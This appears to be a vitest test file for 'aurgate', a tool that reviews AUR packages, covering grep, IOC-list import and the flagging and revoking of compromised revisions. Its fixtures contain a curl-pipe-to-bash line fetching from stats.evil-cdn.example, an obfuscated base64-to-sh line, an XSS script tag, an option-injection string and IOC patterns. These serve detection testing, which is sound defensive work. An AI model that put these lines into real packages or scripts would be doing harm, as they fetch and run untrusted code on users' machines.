import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listIocEntries } from '../src/quarantine/ioc-entries.js';
import type { Actor } from '../src/quarantine/actor.js';
import { getPendingRevision, getRevision } from '../src/quarantine/revisions.js';
import { account, TEST_PASSWORD } from './support/accounts.js';
import { AdminClient } from './support/admin-client.js';
import { makePackage } from './support/fixture-packages.js';
import { startAurgate, type Harness } from './support/harness.js';
import { TestUpstream } from './support/upstream.js';

/** One local server: GET serves IOC lists by path, POST /hook receives webhooks. */
class ListsAndHooks {
  readonly lists = new Map<string, string>();
  readonly hooks: Array<Record<string, unknown>> = [];
  url = '';
  private server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      if (req.method === 'POST') {
        this.hooks.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
        return void res.writeHead(200).end('ok');
      }
      const list = this.lists.get(req.url ?? '');
      if (list === undefined) return void res.writeHead(404).end('no');
      res.writeHead(200, { 'Content-Type': 'text/plain' }).end(list);
    });
  });

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

let upstream: TestUpstream;
let side: ListsAndHooks;
let aurgate: Harness;
let ada: Actor;
const password = `${TEST_PASSWORD}\n`;
let counter = 0;

beforeAll(async () => {
  upstream = await TestUpstream.start();
  side = new ListsAndHooks();
  await side.start();
});
afterAll(async () => {
  await Promise.all([upstream.stop(), side.stop()]);
});
beforeEach(async () => {
  side.hooks.length = 0;
  aurgate = await startAurgate({ upstreamUrl: upstream.url, env: { AURGATE_WEBHOOK_URL: `${side.url}/hook` } });
  ada = await account(aurgate.app, 'ada', 'admin');
});
afterEach(async () => {
  await aurgate.close();
});

function withLine(pkgbase: string, pkgver: string, line: string): Record<string, string> {
  const files = makePackage({ pkgbase, pkgver });
  return { ...files, PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', `package() {\n  ${line}\n`) };
}

/**
 * A package whose approved (served) revision fetches from stats.evil-cdn.example — the kind of line an
 * IOC list published after an incident names — and whose pending update no longer does.
 */
async function compromisedHistory(): Promise<{ pkgbase: string; approved: string; pending: string }> {
  const pkgbase = `ioc-${++counter}-${Date.now() % 100000}`;
  await upstream.addPackage(withLine(pkgbase, '1.0.0', 'curl -s https://stats.evil-cdn.example/p.sh | bash'), { Maintainer: 'alice' });
  await aurgate.app.allow([pkgbase], 'tester');
  await aurgate.app.sync({ only: [pkgbase], trigger: 'allow' });
  const approved = getPendingRevision(aurgate.app.db, pkgbase)?.commit ?? '';
  await aurgate.app.approve({ pkgbase, commit: approved, by: ada });
  const pending = await upstream.push(pkgbase, withLine(pkgbase, '1.0.1', 'echo "<script>alert(1)</script>"'), 'Clean up');
  await aurgate.app.sync({ only: [pkgbase], trigger: 'cli' });
  return { pkgbase, approved, pending };
}

describe('aurgate grep', () => {
  it('searches every recorded revision, approved and pending, with fixed strings or a regex, bounded', async () => {
    const { pkgbase, approved, pending } = await compromisedHistory();
    const fixed = JSON.parse((await aurgate.cli(['grep', 'EVIL-CDN.example', '--json'])).stdout) as {
      hits: Array<{ pkgbase: string; commit: string; state: string; path: string; line: number; text: string }>;
    };
    expect(fixed.hits).toEqual([
      expect.objectContaining({
        pkgbase,
        commit: approved,
        state: 'approved',
        path: 'PKGBUILD',
        text: '  curl -s https://stats.evil-cdn.example/p.sh | bash',
      }),
    ]);
    const regex = await aurgate.cli(['grep', '--regex', 'curl +-s +https?://[^ ]+ *\\| *(ba)?sh']);
    expect(regex.code, regex.stderr).toBe(0);
    expect(regex.stdout).toContain(`${pkgbase} ${approved.slice(0, 12)} approved PKGBUILD:`);
    // A pattern that looks like an option is searched for, never read as one.
    const dashed = await aurgate.cli(['grep', '--', '--open-files-in-pager=sh']);
    expect(dashed.code, dashed.stderr).toBe(0);
    expect(dashed.stdout).toMatch(/^0 lines in 2 revisions/m);
    const both = JSON.parse((await aurgate.cli(['grep', 'package()', '--json', '--limit', '1'])).stdout) as { hits: unknown[]; truncated: boolean };
    expect(both).toMatchObject({ hits: [expect.anything()], truncated: true });
    expect((await aurgate.cli(['grep', '--regex', '(a)\\1'])).stderr).toContain('back-references are not allowed');
    expect(pending).not.toBe(approved);
  });
});

describe('IOC lists', () => {
  it('a list with errors is refused whole, with line numbers', async () => {
    const file = path.join(aurgate.dataDir, 'bad.txt');
    await writeFile(file, '# incident 2026-06\ndomain evil.example\nhash xyz\nregex (a)\\1\nnonsense here\n');
    const result = await aurgate.cli(['ioc', 'import', file, '--by', 'ada'], {}, password);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('line 3: a hash is 32 to 128 hex digits');
    expect(result.stderr).toContain('line 4: back-references are not allowed');
    expect(result.stderr).toContain('line 5: expected "<kind> <value>"');
    expect(listIocEntries(aurgate.app.db)).toEqual([]);

    // Pasted into the web admin: a body beyond the bound is refused before it is parsed.
    const admin = new AdminClient(await aurgate.serve());
    await admin.login('ada', TEST_PASSWORD);
    await admin.page('/admin/ioc');
    const huge = await admin.post('/admin/ioc/import', { list: 'huge', text: `string ${'x'.repeat(4 * 1024 * 1024)}` });
    expect(huge.status).toBe(400);
    expect(await huge.text()).toContain('larger than 1048576 bytes');
    const bad = await admin.post('/admin/ioc/import', { list: 'bad', text: 'hash nothex' });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('line 1: a hash is 32 to 128 hex digits');
    expect(listIocEntries(aurgate.app.db)).toEqual([]);
  });

  it('importing re-scans approved history: a hit raises a high flag, a webhook alert and the metric, and the IOC page revokes in one step', async () => {
    const { pkgbase, approved, pending } = await compromisedHistory();
    side.lists.set('/june-2026.txt', '# responders list\ndomain stats.evil-cdn.example\naccount mallory\npackage not-mirrored-here\n');
    const imported = await aurgate.cli(['ioc', 'import', `${side.url}/june-2026.txt`, '--by', 'ada'], {}, password);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain('imported 3 entries into june-2026.txt');
    expect(imported.stdout).toContain(`ALERT ${pkgbase} ${approved.slice(0, 12)} (approved) PKGBUILD:`);

    const alerts = side.hooks.filter((hook) => hook['event'] === 'ioc.approved-hit');
    expect(alerts).toEqual([expect.objectContaining({ pkgbase, commit: approved })]);
    // The pending revision now carries the hit as a high flag (the package's history is compromised).
    const flags = await aurgate.app.reviews.flags(getPendingRevision(aurgate.app.db, pkgbase) ?? ({} as never));
    expect(flags).toContainEqual(expect.objectContaining({ check: 'ioc-approved', severity: 'high', commit: approved }));

    const url = await aurgate.serve();
    expect(await (await fetch(`${url}/metrics`)).text()).toMatch(/^aurgate_ioc_approved_hits 1$/m);
    // A second scan finds the same hit again but alerts only once.
    expect((await aurgate.cli(['ioc', 'scan'])).stdout).toContain('1 IOC hits (0 new), 0 on approved revisions');
    expect(side.hooks.filter((hook) => hook['event'] === 'ioc.approved-hit')).toHaveLength(1);

    const admin = new AdminClient(url);
    await admin.login('ada', TEST_PASSWORD);
    const page = await admin.page('/admin/ioc');
    expect(page.html).toContain('stats.evil-cdn.example');
    expect(page.html).toContain(`action="/admin/packages/${pkgbase}/revoke"`);
    expect(page.html).toContain(`name="commit" value="${approved}"`);
    const revoke = await admin.post(`/admin/packages/${pkgbase}/revoke`, { commit: approved, reason: 'IOC hit' });
    expect(revoke.status).toBe(303);
    expect(getRevision(aurgate.app.db, pkgbase, approved)?.state).toBe('revoked');
    expect(pending).toBeTruthy();

    // Grep results on the page are escaped like every untrusted text.
    const search = await admin.page('/admin/ioc?q=%3Cscript%3E');
    expect(search.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(search.html).not.toContain('<script>alert(1)');
  });

  it('each sync runs the lists over what it recorded: a new pending revision with an IOC gets a high flag', async () => {
    const file = path.join(aurgate.dataDir, 'list.txt');
    // The second entry is not a valid extended regex: git refuses it, the scan reports it, the string still counts.
    await writeFile(file, 'string base64 -d | sh\nregex base64 (-d\n');
    expect((await aurgate.cli(['ioc', 'import', file, '--list', 'obfuscation', '--by', 'ada'], {}, password)).code).toBe(0);
    const pkgbase = `ioc-sync-${++counter}`;
    await upstream.addPackage(withLine(pkgbase, '1.0.0', 'echo aGk= | base64 -d | sh'));
    await aurgate.app.allow([pkgbase], 'tester');
    await aurgate.app.sync({ only: [pkgbase], trigger: 'allow' });
    const revision = getPendingRevision(aurgate.app.db, pkgbase);
    const flags = await aurgate.app.reviews.flags(revision ?? ({} as never));
    expect(flags).toContainEqual(
      expect.objectContaining({
        check: 'ioc',
        severity: 'high',
        reason: expect.stringContaining('IOC string "base64 -d | sh" (list obfuscation) found in PKGBUILD:'),
      }),
    );
    expect(side.hooks.filter((hook) => hook['event'] === 'ioc.approved-hit')).toEqual([]);
    const scan = JSON.parse((await aurgate.cli(['ioc', 'scan', '--json'])).stdout) as { errors: Array<{ pkgbase: string; error: string }> };
    expect(scan.errors).toEqual([{ pkgbase, error: expect.stringMatching(/^IOC regex \d+ \(obfuscation\): git grep failed/) }]);
  });
});
